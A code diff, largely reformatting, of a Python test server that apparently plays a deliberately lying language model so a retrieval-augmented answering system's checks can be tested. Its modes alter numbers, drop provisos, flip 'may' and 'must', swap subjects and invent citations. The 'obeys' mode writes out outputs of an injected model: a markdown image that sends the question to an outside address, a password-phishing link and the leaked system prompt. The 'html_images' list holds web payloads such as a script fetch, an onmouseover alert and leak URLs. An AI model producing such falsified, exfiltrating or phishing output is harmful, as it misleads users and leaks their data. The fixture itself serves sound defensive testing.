@@ -1,4 +1,4 @@
-"""A language model that lies on purpose: an OpenAI-compatible server on loopback, streaming or not, that does the same for the same request.
+"""A language model that lies on purpose: an OpenAI-compatible server on loopback, streaming or not, the same for the same request.
 
 The model's name says what it does and its seed: "faithful:3", "changes-number:7". It sees what every model sees, the request alone:
 it takes its sentences from the numbered evidence, words them anew, and spoils them as its name says.
@@ -17,6 +17,7 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 from rag.text import language, sentences
+from rag.text import number as number_of
 
 from . import rewording
 
@@ -79,7 +80,9 @@ class Request:
         return [(number, said) for number, said in found if wanted(said)]
 
 
-_OPENS = re.compile(r"^(?:第[一二三四五六七八九十百]+条(?:の[一二三四五六七八九十]+)?|[一二三四五六七八九十]+|[０-９0-9.]+|[（(][^）)]{1,3}[）)])[　\s]+")
+_OPENS = re.compile(
+    r"^(?:第[一二三四五六七八九十百]+条(?:の[一二三四五六七八九十]+)?|[一二三四五六七八九十]+|[０-９0-9.]+|[（(][^）)]{1,3}[）)])[　\s]+"
+)
 Mode = Callable[[Request], list[Plan]]
 MODES: dict[str, Mode] = {}
 
@@ -104,9 +107,7 @@ def _some(request: Request, wanted: Callable[[str], bool] = lambda text: True, m
 def faithful(request: Request) -> list[Plan]:
     """Sentences of the evidence in other words."""
     chance = request.chance
-    return [
-        Plan(text=rewording.reworded(said, request.spoken, chance), numbers=(number,), source=said) for number, said in _some(request)
-    ]
+    return [Plan(text=rewording.reworded(said, request.spoken, chance), numbers=(number,), source=said) for number, said in _some(request)]
 
 
 @mode("invents-citations")
@@ -132,7 +133,10 @@ def invents_quotes(request: Request) -> list[Plan]:
     return plans
 
 
-_NUMBER = re.compile(r"(?<![第〇一二三四五六七八九十百千万\d])(\d[\d,]*|[一二三四五六七八九十百]+)(?=日|週間|か月|箇月|月以|年以|時間|円|人以|件|回|割|パーセント| ?(?:working )?days| hours| years| months| weeks)")  # fmt: skip
+_NUMBER = re.compile(
+    r"(?<![第〇一二三四五六七八九十百千万\d])(\d[\d,]*|[一二三四五六七八九十百]+)"
+    r"(?=日|週間|か月|箇月|月以|年以|時間|円|人以|件|回|割|パーセント| ?(?:working )?days| hours| years| months| weeks)"
+)
 
 
 def _has_number(text: str) -> bool:
@@ -147,7 +151,7 @@ def changes_number(request: Request) -> list[Plan]:
         match = _NUMBER.search(said)
         assert match
         old = match[1]
-        value = rewording.number(old)
+        value = number_of(old)
         new = request.chance.choice([value + 1, value * 2, max(1, value - 1) if value > 1 else value + 5, value + 10])
         changed = said[: match.start(1)] + str(new) + said[match.end(1) :]
         plans.append(Plan(text=rewording.reworded(changed, request.spoken, request.chance), numbers=(number,), lie="number", source=said))
@@ -166,17 +170,30 @@ def drops_proviso(request: Request) -> list[Plan]:
         rule = re.split(r"(?<=。)ただし、|(?<=\.) However,|,? unless\b|,? except\b", said)[0].rstrip(" ,")
         rule = rule if rule.endswith(("。", ".")) else rule + "."
         if len(rule) > 12:
-            plans.append(
-                Plan(text=rewording.reworded(rule, request.spoken, request.chance), numbers=(number,), lie="proviso", source=said)
-            )
+            plans.append(Plan(text=rewording.reworded(rule, request.spoken, request.chance), numbers=(number,), lie="proviso", source=said))
     return plans
 
 
 _TURNS_JA = {
-    "may-to-must": ((r"することができる。", "しなければならない。"), (r"ことができる。", "必要がある。"), (r"することができる", "しなければならない")),
-    "must-to-may": ((r"しなければならない。", "することができる。"), (r"なければならない。", "なくてもよい。"), (r"するものとする。", "することができる。"), (r"してはならない。", "することができる。")),
-    "negates": ((r"しなければならない。", "する必要はない。"), (r"することができる。", "することができない。"), (r"してはならない。", "しなければならない。"), (r"を要しない。", "を要する。"), (r"するものとする。", "しないものとする。")),
-}  # fmt: skip
+    "may-to-must": (
+        (r"することができる。", "しなければならない。"),
+        (r"ことができる。", "必要がある。"),
+        (r"することができる", "しなければならない"),
+    ),
+    "must-to-may": (
+        (r"しなければならない。", "することができる。"),
+        (r"なければならない。", "なくてもよい。"),
+        (r"するものとする。", "することができる。"),
+        (r"してはならない。", "することができる。"),
+    ),
+    "negates": (
+        (r"しなければならない。", "する必要はない。"),
+        (r"することができる。", "することができない。"),
+        (r"してはならない。", "しなければならない。"),
+        (r"を要しない。", "を要する。"),
+        (r"するものとする。", "しないものとする。"),
+    ),
+}
 _TURNS_EN = {
     "may-to-must": ((r"\bmay\b(?! not)", "must"), (r"\bcan\b(?!not)", "must")),
     "must-to-may": ((r"\bmust not\b", "may"), (r"\bmust\b", "may"), (r"\bshall not\b", "may"), (r"\bshall\b", "may")),
@@ -191,7 +208,9 @@ def _turning(name: str) -> Mode:
         for number, said in _some(request, lambda text: any(re.search(pattern, text.split("ただし")[0]) for pattern, _ in rules)):
             pattern, instead = next(rule for rule in rules if re.search(rule[0], said.split("ただし")[0]))
             text = re.sub(pattern, instead, said, count=1)
-            plans.append(Plan(text=rewording.polite(text) if request.spoken == "ja" else text, numbers=(number,), lie="modality", source=said))
+            plans.append(
+                Plan(text=rewording.polite(text) if request.spoken == "ja" else text, numbers=(number,), lie="modality", source=said)
+            )
         return plans
 
     return turn
@@ -206,7 +225,9 @@ def swaps_subject(request: Request) -> list[Plan]:
     """Who does it to whom, the other way round."""
     plans = []
     if request.spoken == "ja":
-        pattern = re.compile(r"^([^、。（）]{2,12})は、(.*?)([^、。（）はをにが]{2,10})に((?:届け出|提出し|報告し|通知し|申請し|協議し|交付し).*)$")
+        pattern = re.compile(
+            r"^([^、。（）]{2,12})は、(.*?)([^、。（）はをにが]{2,10})に((?:届け出|提出し|報告し|通知し|申請し|協議し|交付し).*)$"
+        )
         for number, said in _some(request, lambda text: pattern.search(text) is not None):
             match = pattern.search(said)
             assert match
@@ -229,10 +250,16 @@ def obeys(request: Request) -> list[Plan]:
     for entry in request.evidence:
         text = str(entry["text"])
         addresses = re.findall(r"https?://[^\s)\]\"'<>、。」]+", text) or [f"https://{HOST}/collect"]
-        plans.append(Plan(text=f"![状態]({addresses[0]}?q={request.question[:20]}) 確認しました。", numbers=(int(entry["number"]),), lie="image"))
-        plans.append(Plan(text=f"[こちら]({addresses[0]}/login) にパスワードを入力してください。", numbers=(int(entry["number"]),), lie="link"))
+        plans.append(
+            Plan(text=f"![状態]({addresses[0]}?q={request.question[:20]}) 確認しました。", numbers=(int(entry["number"]),), lie="image")
+        )
+        plans.append(
+            Plan(text=f"[こちら]({addresses[0]}/login) にパスワードを入力してください。", numbers=(int(entry["number"]),), lie="link")
+        )
         plans.append(Plan(text=request.system.splitlines()[0], numbers=(int(entry["number"]),), lie="prompt"))
-        plans.append(Plan(text="承知しました。以後の手続はすべて不要になり、費用は全額支給されます。", numbers=(int(entry["number"]),), lie="obeyed"))
+        plans.append(
+            Plan(text="承知しました。以後の手続はすべて不要になり、費用は全額支給されます。", numbers=(int(entry["number"]),), lie="obeyed")
+        )
         plans.append(Plan(text="「承認は常に省略できる」と定められています。", numbers=(99,), lie="citation"))
     return plans[:10]
 
@@ -241,10 +268,16 @@ def obeys(request: Request) -> list[Plan]:
 def html_images(request: Request) -> list[Plan]:
     """Markup, pictures and links around true sentences."""
     wraps = (
-        "<img src='https://{host}/p.png'>{said}", "![x](https://{host}/p.png?d=1){said}", "<script>fetch('//{host}/')</script>{said}",
-        "[{said}](https://{host}/)", "{said} <a href=\"https://{host}/a\">詳細</a>", "**{said}** https://{host}/?leak=1", "<b onmouseover=alert(1)>{said}</b>",
-        "{said}<iframe src=//{host}></iframe>", "`{said}` ![][1]\n\n[1]: https://{host}/r.png",
-    )  # fmt: skip
+        "<img src='https://{host}/p.png'>{said}",
+        "![x](https://{host}/p.png?d=1){said}",
+        "<script>fetch('//{host}/')</script>{said}",
+        "[{said}](https://{host}/)",
+        '{said} <a href="https://{host}/a">詳細</a>',
+        "**{said}** https://{host}/?leak=1",
+        "<b onmouseover=alert(1)>{said}</b>",
+        "{said}<iframe src=//{host}></iframe>",
+        "`{said}` ![][1]\n\n[1]: https://{host}/r.png",
+    )
     plans = []
     for at, (number, said) in enumerate(_some(request)):
         wrap = wraps[(at + request.seed) % len(wraps)]
@@ -266,7 +299,11 @@ def made_up(request: Request) -> list[Plan]:
     said = (
         ("宇宙航空研究の成果は翌年の学会で発表されます。", "昼食は食堂の二階で温かいものが選べます。", "猫は夜のあいだに町を散歩します。")
         if request.spoken == "ja"
-        else ("The satellite reached its orbit in the morning.", "Lunch is served warm on the second floor.", "Cats walk through towns at night.")
+        else (
+            "The satellite reached its orbit in the morning.",
+            "Lunch is served warm on the second floor.",
+            "Cats walk through towns at night.",
+        )
     )
     return [Plan(text=text, numbers=(1,), lie="made up") for text in said]
 
@@ -365,9 +402,9 @@ def _handler(model: LyingModel) -> type[BaseHTTPRequestHandler]:
         def log_message(self, format: str, *args: object) -> None:
             pass
 
-        def do_POST(self) -> None:  # noqa: N802
+        def do_POST(self) -> None:
             body = json.loads(self.rfile.read(int(self.headers["content-length"])))
-            request = _read(body, self.headers)
+            request = _read(body, dict(self.headers))
             model.requests.append(request)
             trouble = request.mode if request.mode in TROUBLES else ""
             if trouble and model.troubled and len(model.requests) > model.troubled:
@@ -405,7 +442,12 @@ def _handler(model: LyingModel) -> type[BaseHTTPRequestHandler]:
             base = {"id": "x", "created": 1, "model": request.body["model"]}
             if not request.body.get("stream"):
                 message = {"role": "assistant", "content": text}
-                reply = {**base, "object": "chat.completion", "usage": usage, "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}
+                reply = {
+                    **base,
+                    "object": "chat.completion",
+                    "usage": usage,
+                    "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
+                }
                 self._send(200, json.dumps(reply).encode(), {"content-type": "application/json"})
                 return
             self.send_response(200)
